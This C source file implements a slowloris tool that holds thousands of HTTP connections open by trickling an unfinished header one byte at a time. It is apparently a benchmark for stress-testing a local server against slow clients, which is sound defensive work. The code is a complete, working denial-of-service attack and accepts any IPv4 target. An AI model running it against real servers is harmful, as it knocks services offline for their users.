/*
 * slowloris — hold many connections to an HTTP server the way a slow client does.
 *
 *   slowloris --port N [--host 127.0.0.1] [--clients 2000] [--interval 10] [--seconds 600]
 *
 * Opens --clients connections. Half of them trickle a request header, one byte every
 * --interval seconds (each client at its own phase), which never completes; the other half
 * send nothing at all. A connection the server closes or answers is counted and opened again
 * a second later, so the pressure stays constant, as an attacker would keep it. Runs until
 * --seconds have passed or SIGTERM/SIGINT, then closes everything and prints a summary.
 *
 * stdout, one line each: "ready ..." once every first connection attempt has settled, a
 * status line every 5 s, and "done ..." at the end, all as key=value fields for
 * bench/slowclients. The soft RLIMIT_NOFILE is raised to the hard limit first; if that is
 * still too low for --clients, it says so and exits 2.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

// A header that is long enough never to be finished at one byte per interval.
static const char HEADER[] = "POST /generate HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                             "Content-Type: application/json\r\nContent-Length: 64\r\n"
                             "User-Agent: slowloris-bench-for-charlm (one byte at a time)\r\n"
                             "X-Padding: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n";

enum { CONNECT_TIMEOUT_S = 5, RETRY_AFTER_S = 1, STATUS_EVERY_S = 5 };

enum state { CLOSED, CONNECTING, OPEN };

typedef struct {
    int fd;
    enum state state;
    int trickle;      // 1: sends a header byte every interval; 0: idle
    size_t sent;      // header bytes sent on this connection
    double next_send; // when the next byte goes (trickle clients)
    double started;   // when the connect began
    double retry_at;  // when a closed client connects again
    int ever_opened;  // the first attempt settled (for "ready")
} Client;

typedef struct {
    long connects, connect_failed, closed_by_server, answered, bytes_sent;
} Stats;

static volatile sig_atomic_t stop;

static void on_signal(int sig) {
    (void)sig;
    stop = 1;
}

static double now_s(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void client_close(Client *c, double now) {
    if (c->fd >= 0) close(c->fd);
    c->fd = -1;
    c->state = CLOSED;
    c->retry_at = now + RETRY_AFTER_S;
}

static void client_connect(Client *c, const struct sockaddr_in *addr, double now, double interval,
                           Stats *st) {
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (fd < 0) {
        st->connect_failed++;
        c->retry_at = now + RETRY_AFTER_S;
        return;
    }
    c->fd = fd;
    c->sent = 0;
    c->started = now;
    // Spread the trickling clients over the interval so the server sees a steady drip.
    c->next_send = now + interval * ((double)rand() / RAND_MAX);
    st->connects++;
    if (connect(fd, (const struct sockaddr *)addr, sizeof *addr) == 0) {
        c->state = OPEN;
        c->ever_opened = 1;
    } else if (errno == EINPROGRESS) {
        c->state = CONNECTING;
    } else {
        st->connect_failed++;
        c->ever_opened = 1;
        client_close(c, now);
    }
}

static void print_status(const char *what, double t, const Client *cl, int n, const Stats *st) {
    int open = 0, connecting = 0;
    for (int i = 0; i < n; i++) {
        open += cl[i].state == OPEN;
        connecting += cl[i].state == CONNECTING;
    }
    printf("%s t=%.0f open=%d connecting=%d connects=%ld connect_failed=%ld closed_by_server=%ld "
           "answered=%ld bytes_sent=%ld\n",
           what, t, open, connecting, st->connects, st->connect_failed, st->closed_by_server,
           st->answered, st->bytes_sent);
    fflush(stdout);
}

static int usage(void) {
    fprintf(stderr, "usage: slowloris --port N [--host 127.0.0.1] [--clients 2000] "
                    "[--interval 10] [--seconds 600]\n");
    return 2;
}

int main(int argc, char **argv) {
    const char *host = "127.0.0.1";
    long port = 0, n = 2000;
    double interval = 10, seconds = 600;
    for (int i = 1; i < argc; i++) {
        if (i + 1 >= argc) return usage();
        const char *flag = argv[i], *val = argv[++i];
        char *end;
        double v = strtod(val, &end);
        if (*end != '\0' && strcmp(flag, "--host") != 0) return usage();
        if (strcmp(flag, "--host") == 0)
            host = val;
        else if (strcmp(flag, "--port") == 0 && v >= 1 && v <= 65535)
            port = (long)v;
        else if (strcmp(flag, "--clients") == 0 && v >= 1 && v <= 1000000)
            n = (long)v;
        else if (strcmp(flag, "--interval") == 0 && v > 0)
            interval = v;
        else if (strcmp(flag, "--seconds") == 0 && v > 0)
            seconds = v;
        else
            return usage();
    }
    if (port == 0) return usage();
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    if (inet_pton(AF_INET, host, &addr.sin_addr) != 1) {
        fprintf(stderr, "slowloris: --host must be an IPv4 address, got '%s'\n", host);
        return 2;
    }

    struct rlimit rl;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0) {
        rl.rlim_cur = rl.rlim_max;
        setrlimit(RLIMIT_NOFILE, &rl);
        getrlimit(RLIMIT_NOFILE, &rl);
    }
    if (rl.rlim_cur != RLIM_INFINITY && (long)rl.rlim_cur < n + 16) {
        fprintf(stderr, "slowloris: %ld clients need %ld file descriptors; the limit is %ld\n", n,
                n + 16, (long)rl.rlim_cur);
        return 2;
    }

    struct sigaction sa = {.sa_handler = on_signal};
    sigaction(SIGTERM, &sa, NULL);
    sigaction(SIGINT, &sa, NULL);
    signal(SIGPIPE, SIG_IGN);

    Client *cl = calloc((size_t)n, sizeof *cl);
    struct pollfd *pfd = calloc((size_t)n, sizeof *pfd);
    int *idx = calloc((size_t)n, sizeof *idx);
    if (!cl || !pfd || !idx) {
        fprintf(stderr, "slowloris: out of memory\n");
        return 1;
    }
    double t0 = now_s(), next_status = t0 + STATUS_EVERY_S;
    for (long i = 0; i < n; i++) cl[i] = (Client){.fd = -1, .trickle = i % 2 == 0, .retry_at = t0};
    Stats st = {0};
    int ready = 0;

    while (!stop && now_s() - t0 < seconds) {
        double now = now_s();
        // Open at most 200 connections per round, so a listen backlog of 128 is not swamped
        // by one burst of SYNs.
        int opened = 0;
        for (long i = 0; i < n && opened < 200; i++) {
            Client *c = &cl[i];
            if (c->state == CLOSED && now >= c->retry_at) {
                client_connect(c, &addr, now, interval, &st);
                opened++;
            } else if (c->state == CONNECTING && now - c->started > CONNECT_TIMEOUT_S) {
                st.connect_failed++;
                c->ever_opened = 1;
                client_close(c, now);
            } else if (c->state == OPEN && c->trickle && now >= c->next_send) {
                char b = HEADER[c->sent % (sizeof HEADER - 1)];
                if (send(c->fd, &b, 1, MSG_NOSIGNAL) == 1) {
                    c->sent++;
                    st.bytes_sent++;
                    c->next_send = now + interval;
                } else if (errno != EAGAIN) {
                    st.closed_by_server++;
                    client_close(c, now);
                }
            }
        }
        int np = 0;
        for (long i = 0; i < n; i++) {
            if (cl[i].state == CLOSED) continue;
            pfd[np] = (struct pollfd){.fd = cl[i].fd,
                                      .events = cl[i].state == CONNECTING ? POLLOUT : POLLIN};
            idx[np++] = (int)i;
        }
        int r = poll(pfd, (nfds_t)np, 100);
        if (r < 0 && errno != EINTR) {
            perror("slowloris: poll");
            break;
        }
        now = now_s();
        for (int k = 0; r > 0 && k < np; k++) {
            Client *c = &cl[idx[k]];
            if (!pfd[k].revents) continue;
            if (c->state == CONNECTING) {
                int err = 0;
                socklen_t len = sizeof err;
                getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &len);
                c->ever_opened = 1;
                if (err == 0) {
                    c->state = OPEN;
                } else {
                    st.connect_failed++;
                    client_close(c, now);
                }
                continue;
            }
            char buf[512];
            ssize_t got = recv(c->fd, buf, sizeof buf, 0);
            if (got > 0)
                st.answered++;
            else if (got < 0 && errno == EAGAIN)
                continue;
            else
                st.closed_by_server++;
            client_close(c, now);
        }
        if (!ready) {
            ready = 1;
            for (long i = 0; i < n && ready; i++) ready = cl[i].ever_opened;
            if (ready || now - t0 > 30) {
                ready = 1;
                print_status("ready", now - t0, cl, (int)n, &st);
            }
        }
        if (now >= next_status) {
            print_status("status", now - t0, cl, (int)n, &st);
            next_status += STATUS_EVERY_S;
        }
    }
    print_status("done", now_s() - t0, cl, (int)n, &st);
    for (long i = 0; i < n; i++)
        if (cl[i].fd >= 0) close(cl[i].fd);
    free(cl);
    free(pfd);
    free(idx);
    return 0;
}
